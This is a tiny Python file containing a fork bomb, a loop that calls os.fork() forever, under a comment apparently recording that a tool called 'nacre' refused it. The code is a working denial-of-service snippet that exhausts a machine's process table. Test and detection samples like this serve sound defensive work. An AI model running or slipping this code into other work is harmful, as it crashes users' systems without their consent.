# nacre: refused process.fork-bomb
import os
while True:
    os.fork()
